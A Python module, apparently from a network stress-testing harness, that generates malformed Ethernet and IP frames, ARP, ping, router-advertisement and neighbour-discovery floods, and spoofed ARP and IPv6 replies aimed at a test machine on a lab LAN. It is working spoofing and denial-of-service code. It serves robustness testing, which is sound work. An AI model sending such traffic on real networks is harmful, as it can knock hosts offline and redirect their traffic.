# SPDX-License-Identifier: BSD-2-Clause
"""Attacks below TCP: garbage, lies and floods of ARP and of neighbour discovery, pings of strangers."""
import struct

from .attack_base import Attack
from .frames import (ACK, ALL_NODES, ARP, BROADCAST, IPV4, IPV6, PSH, TCP, UDP, arp, ethernet, icmp, icmp6, ipv4, lladdr,
                     multicast_mac, packed, tcp)

VLAN = 0x8100
ODD_KINDS = [0x0000, 0x0001, 0x002E, 0x05DC, 0x05FF, 0x0801, 0x0806, 0x8035, VLAN, 0x8809, 0x88A8, 0x88CC, 0xFFFF]
HEADERS = [0, 6, 43, 44, 50, 51, 58, 60]  # IPv6's
ROUTER_ADVERTISEMENT, SOLICITATION, NEIGHBOUR_ADVERTISEMENT = 134, 135, 136
SOLICITED, OVERRIDE = 0x40000000, 0x20000000
DEAD_MAC = b"\x02\x00\x00\x00\xde\xad"  # nobody has it
ALL_ROUTERS_GROUP = b"\x01\x00\x5e\x00\x00\x02"


class Garbage(Attack):
    """Random bytes as frames, as packets behind an honest EtherType, as headers with impossible lengths; too short, too long."""

    per_second = 200

    def shot(self):
        make = self.chance.choice([self.noise, self.noise, self.runt, self.odd_kind, self.header4, self.header6, self.giant])
        to = self.chance.choice([self.lan.mac, self.lan.mac, BROADCAST, ALL_ROUTERS_GROUP])
        return [make(to)]

    def noise(self, to):
        kind = self.chance.choice([IPV4, IPV6, ARP])
        return ethernet(to, self.some_mac(), kind, self.bytes(self.chance.randrange(1500)))

    def runt(self, to):
        kind = self.chance.choice([IPV4, IPV6, ARP])
        return ethernet(to, self.some_mac(), kind, self.bytes(self.chance.randrange(46)))

    def odd_kind(self, to):
        return ethernet(to, self.some_mac(), self.chance.choice(ODD_KINDS), self.bytes(self.chance.randrange(4, 1500)))

    def header4(self, to):
        """The lengths of an IPv4 header, wrong; the rest as it would be."""
        packet = bytearray(self.honest())
        if packet[0] >> 4 == 4:
            packet[0] = 0x40 | self.chance.randrange(16)
            packet[2:4] = self.bytes(2)
            packet[10:12] = b"\0\0"
            total = sum(struct.unpack(">10H", packet[:20]))
            packet[10:12] = struct.pack(">H", 0xFFFF - (total & 0xFFFF) - (total >> 16) & 0xFFFF)
        return ethernet(to, self.some_mac(), IPV4, bytes(packet[:self.chance.randrange(20, len(packet))]))

    def header6(self, to):
        """Extension headers of every kind, and a length that is none."""
        start = struct.pack(">IHBB", 6 << 28, self.chance.randrange(0x10000), self.chance.choice(HEADERS), 255)
        return ethernet(to, self.some_mac(), IPV6, start + self.bytes(self.chance.randrange(32, 500)))

    def giant(self, to):
        kind = self.chance.choice([IPV4, IPV6, 0x9000])
        return ethernet(to, self.some_mac(), kind, self.bytes(self.chance.randrange(1501, 3900)))

    def honest(self):
        ours = self.lan.address.get(4, packed("192.168.77.50"))
        return ipv4(packed("192.168.77.1"), ours, self.chance.choice([TCP, UDP, 1, 2, 132]), self.bytes(100))


class BadSums(Attack):
    """The next segment of the machine's connection, with other data and one bit of the packet wrong."""

    def ready(self):
        return self.lan.flow and self.lan.flow.established

    def shot(self):
        flow = self.lan.flow
        packet = bytearray(tcp(flow.peer, flow.ours, flow.from_peer, flow.expects, flow.sent, ACK | PSH,
                               data=self.bytes(self.chance.randrange(1, 1000))))
        first = 20 if len(flow.ours) == 4 else 40
        packet[self.chance.randrange(first, len(packet))] ^= 1 << self.chance.randrange(8)
        return [ethernet(self.lan.mac, flow.peer_mac, IPV4 if len(flow.ours) == 4 else IPV6, bytes(packet))]


class ArpFlood(Attack):
    """Hundreds of neighbours that announce themselves and ask for the machine."""

    per_second = 300

    def shot(self):
        mac, somebody = self.some_mac(), b"\xc0\xa8\x4d" + bytes([self.chance.randrange(2, 255)])
        ours = self.lan.address.get(4, packed("192.168.77.50"))
        if somebody == ours:
            return []
        message = self.chance.choice([
            arp(1, mac, somebody, bytes(6), somebody), arp(2, mac, somebody, mac, somebody),
            arp(1, mac, somebody, bytes(6), ours), arp(2, mac, somebody, self.lan.mac, ours),
            arp(1, mac, self.bytes(4), bytes(6), ours),
            arp(self.chance.randrange(0x10000), mac, somebody, self.lan.mac, ours)])
        return [ethernet(self.chance.choice([BROADCAST, self.lan.mac]), mac, ARP, message)]


class ArpLies(Attack):
    """`address` has another MAC address: one that nobody answers from."""

    per_second = 1

    def __init__(self, lan, address="192.168.77.1", **options):
        super().__init__(lan, **options)
        self.named = packed(address)

    def shot(self):
        ours = self.lan.address.get(4, bytes(4))
        return [ethernet(self.lan.mac, DEAD_MAC, ARP, arp(2, DEAD_MAC, self.named, self.lan.mac, ours)),
                ethernet(BROADCAST, DEAD_MAC, ARP, arp(1, DEAD_MAC, self.named, bytes(6), self.named))]


class ClaimsOurs(Attack):
    """Somebody says that the machine's address is his."""

    per_second = 10

    def ready(self):
        return self.lan.mac and self.lan.address

    def shot(self):
        frames = []
        if 4 in self.lan.address:
            ours = self.lan.address[4]
            frames = [ethernet(BROADCAST, DEAD_MAC, ARP, arp(1, DEAD_MAC, ours, bytes(6), ours)),
                      ethernet(self.lan.mac, DEAD_MAC, ARP, arp(2, DEAD_MAC, ours, self.lan.mac, ours))]
        if 16 in self.lan.address:
            ours = self.lan.address[16]
            said = struct.pack(">I", OVERRIDE) + ours + lladdr(2, DEAD_MAC)
            frames.append(ethernet(multicast_mac(ALL_NODES), DEAD_MAC, IPV6,
                                   icmp6(ours, ALL_NODES, NEIGHBOUR_ADVERTISEMENT, 0, said)))
        return frames


class HasEveryAddress(Attack):
    """Whoever asks who has an address is answered, but for the servers' own."""

    def hears(self, packet):
        body = packet.frame[14:]
        if packet.frame[12:14] != b"\x08\x06" or len(body) < 28 or body[6:8] != b"\0\1" or body[27] < 3:
            return
        self.done += 1
        self.lan.send(ethernet(packet.source_mac, DEAD_MAC, ARP, arp(2, DEAD_MAC, body[24:28], body[8:14], body[14:18])))


class PingFlood(Attack):
    """Pings of strangers, many of whom answer no ARP."""

    per_second = 300

    def ready(self):
        return self.lan.mac and 4 in self.lan.address

    def shot(self):
        somebody = self.chance.choice([self.bytes(4), b"\xc0\xa8\x4d" + bytes([self.chance.randrange(151, 255)])])
        ping = icmp(somebody, self.lan.address[4], 8, 0, self.bytes(4), self.bytes(self.chance.randrange(1400)))
        return [ethernet(self.lan.mac, self.some_mac(), IPV4, ping)]


class RouterFlood(Attack):
    """Routers by the hundred, each with prefixes, MTU and name servers of its own."""

    per_second = 300

    def ready(self):
        return True

    def shot(self):
        chance, mac = self.chance, self.some_mac()
        router = packed("fe80::")[:8] + self.bytes(8)
        body = struct.pack(">BBHII", chance.choice([0, 1, 64, 255]), chance.choice([0, 0x80, 0x08]),
                           chance.choice([0, 1, 1800, 9000, 65535]), self.bytes(1)[0], self.bytes(1)[0]) + lladdr(1, mac)
        for _ in range(chance.randrange(4)):
            prefix = b"\x20\x01\x0d\xb8" + self.bytes(4) + bytes(8)
            body += struct.pack(">BBBBIII", 3, 4, chance.choice([64, 64, 64, 0, 48, 128, 200]), chance.choice([0xC0, 0x80, 0x40]),
                                chance.choice([0, 1, 7200, 0xFFFFFFFF]), chance.choice([0, 1, 7200, 0xFFFFFFFF]), 0) + prefix
        if chance.random() < 0.3:
            body += struct.pack(">BBHI", 5, 1, 0, chance.choice([0, 60, 1279, 1280, 9000, 0xFFFFFFFF]))
        if chance.random() < 0.3:
            body += struct.pack(">BBHI", 25, 3, 0, 600) + self.bytes(16)
        return [ethernet(multicast_mac(ALL_NODES), mac, IPV6, icmp6(router, ALL_NODES, ROUTER_ADVERTISEMENT, 0, body))]


class RouterLies(Attack):
    """The true router's advertisements, in its name, that take back everything."""

    per_second = 20

    def __init__(self, lan, prefix="fd00:77::", **options):
        super().__init__(lan, **options)
        self.prefix, self.router = packed(prefix), None

    def passes(self, packet):
        if packet.ok and packet.protocol == 58 and packet.payload[:1] == bytes([ROUTER_ADVERTISEMENT]):
            self.router = packet

    def ready(self):
        return self.lan.mac and self.router

    def shot(self):
        body = struct.pack(">BBHII", 64, 0, 0, 0, 0) + struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 0, 0, 0) + self.prefix
        return [ethernet(multicast_mac(ALL_NODES), self.router.source_mac, IPV6,
                         icmp6(self.router.source, ALL_NODES, ROUTER_ADVERTISEMENT, 0, body))]


class NeighbourFlood(Attack):
    """Neighbours by the hundred that solicit the machine, and some that advertise themselves."""

    per_second = 300

    def ready(self):
        return self.lan.mac and 16 in self.lan.address

    def shot(self):
        ours, mac = self.lan.address[16], self.some_mac()
        somebody = ours[:8] + self.bytes(8)
        message = self.chance.choice([
            icmp6(somebody, ours, SOLICITATION, 0, bytes(4) + ours + lladdr(1, mac)),
            icmp6(somebody, ours, SOLICITATION, 0, bytes(4) + ours),
            icmp6(bytes(16), packed("ff02::1:ff00:0")[:13] + ours[13:], SOLICITATION, 0, bytes(4) + somebody),
            icmp6(somebody, ALL_NODES, NEIGHBOUR_ADVERTISEMENT, 0, struct.pack(">I", OVERRIDE) + somebody + lladdr(2, mac)),
            icmp6(somebody, ours, 128, 0, self.bytes(64), hops=64)])
        to = multicast_mac(message[24:40]) if message[24] == 0xFF else self.lan.mac
        return [ethernet(to, mac, IPV6, message)]


class NeighbourLies(Attack):
    """`address` has another MAC address: one that nobody answers from."""

    per_second = 1

    def __init__(self, lan, address="fd00:77::1", **options):
        super().__init__(lan, **options)
        self.named = packed(address)

    def ready(self):
        return self.lan.mac and 16 in self.lan.address

    def shot(self):
        said = struct.pack(">I", OVERRIDE | SOLICITED) + self.named + lladdr(2, DEAD_MAC)
        return [ethernet(self.lan.mac, DEAD_MAC, IPV6,
                         icmp6(self.named, self.lan.address[16], NEIGHBOUR_ADVERTISEMENT, 0, said))]


ATTACKS = {
    "garbage": Garbage,
    "bad-sums": BadSums,
    "arp-flood": ArpFlood,
    "arp-lies": ArpLies,
    "claims-ours": ClaimsOurs,
    "has-every-address": HasEveryAddress,
    "ping-flood": PingFlood,
    "router-flood": RouterFlood,
    "router-lies": RouterLies,
    "neighbour-flood": NeighbourFlood,
    "neighbour-lies": NeighbourLies,
}
